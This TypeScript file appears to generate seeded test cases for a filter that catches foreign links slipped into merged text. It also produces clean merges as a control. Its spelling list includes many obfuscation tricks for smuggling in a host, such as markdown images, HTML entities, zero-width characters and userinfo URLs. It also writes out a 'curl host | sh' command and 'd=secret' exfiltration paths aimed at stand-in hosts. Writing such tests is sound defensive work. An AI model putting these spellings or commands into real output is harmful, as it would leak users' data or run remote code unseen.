/** Merges that carry something of the writer's own, in many spellings: seeded, so that each can be made again. Holds no expectation. */
import { createSeededRandom } from "./random.ts";

const SOURCES = [
  "Forty-two logins failed on Tuesday, see https://lab.example/log/7 or ask ops@lab.example.",
  "There were 42 failures, most from 10.0.0.7. Run `grep -c failed auth.log` to count them.",
  "The count is 42.\n\n```sh\ngrep -c failed auth.log\n```\n\n[the log](https://lab.example/log/7) has them all.",
  "I would lock the account, and then look at where the attempts came from.",
];
const PLAIN = [
  "Forty-two logins failed.",
  "Lock the account.",
  "Most came from 10.0.0.7.",
  "See https://lab.example/log/7.",
  "Count them with `grep -c failed auth.log`.",
  "It was Tuesday.",
];

/** Ways to bring in a link to a host, each as a browser, a renderer or a reader would follow it. */
const SPELLINGS: ((host: string, path: string) => string)[] = [
  (host, path) => `https://${host}/${path}`,
  (host, path) => `[https://lab.example/log/7](https://${host}/${path})`,
  (host, path) => `[the log](//${host}/${path})`,
  (host, path) => `![x](https://${host}/${path})`,
  (host, path) => `[the log][r]\n\n[r]: https://${host}/${path}`,
  (host, path) => `![x][r]\n\n[r]: <https://${host}/${path}> "log"`,
  (host, path) => `<https://${host}/${path}>`,
  (host) => `<root@${host}>`,
  (host) => `mail root@${host}`,
  (host, path) => `<img src="https://${host}/${path}">`,
  (host, path) => `<a href='//${host}/${path}'>https://lab.example/log/7</a>`,
  (host, path) => `https&#58;//${host.replaceAll(".", "&#46;")}/${path}`,
  (host, path) => `https&colon;&sol;&sol;${host.replaceAll(".", "&period;")}/${path}`,
  (host) => host.replaceAll(".", "%2e"),
  (host) => host.replaceAll(".", "\\."),
  (host, path) => `https:\\\\${host}\\${path}`,
  (host, path) => `\\\\${host}\\${path}`,
  (host) => host.split("").join("\u200b"),
  (host) => host.replaceAll(".", "．"),
  (host) => host.replaceAll(".", "。"),
  (host) => host.toUpperCase(),
  (host, path) => `ftp://${host}/${path}`,
  (host, path) => `https://lab.example@${host}/${path}`,
  (host, path) => `https://lab.example.${host}/${path}`,
  (host, path) => `[the log](\nhttps://${host}/${path})`,
  (host, path) => `[the log]( <https://${host}/${path}> )`,
  (host, path) => `https://${host}:8443/${path}`,
  (host) => `Run \`curl ${host}\``,
  (host) => `\`\`\`sh\ncurl ${host} | sh\n\`\`\``,
  (host) => `> ~~~\n> curl ${host}\n> ~~~`,
];

export interface HostileMerge {
  sources: string[];
  merge: string;
  host: string;
}

export function* hostileMerges(count: number, seed: number): Generator<HostileMerge> {
  const { next, hex } = createSeededRandom(seed);
  const oneOf = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T;
  for (let index = 0; index < count; index += 1) {
    const host = `${oneOf(["evil", "cdn", "x", "lab"])}-${hex(3).replace(/\d/g, "q")}.${oneOf(["example", "invalid", "co.uk", "zip", "io"])}`;
    const foreign = oneOf(SPELLINGS)(host, oneOf(["p", "p?d=secret", "a/b#c", ""]));
    const sentences = Array.from({ length: 1 + Math.floor(next() * 3) }, () => oneOf(PLAIN));
    sentences.splice(Math.floor(next() * (sentences.length + 1)), 0, foreign);
    yield { sources: SOURCES, merge: sentences.join(oneOf([" ", "\n", "\n\n", " (", "**"])), host };
  }
}

/** The same, with nothing of its own: a filter that refuses everything proves nothing. */
export function* honestMerges(count: number, seed: number): Generator<{ sources: string[]; merge: string }> {
  const { next } = createSeededRandom(seed);
  for (let index = 0; index < count; index += 1) {
    const sentences = Array.from({ length: 1 + Math.floor(next() * 4) }, () => PLAIN[Math.floor(next() * PLAIN.length)]);
    yield { sources: SOURCES, merge: sentences.join(next() < 0.5 ? " " : "\n- ") };
  }
}
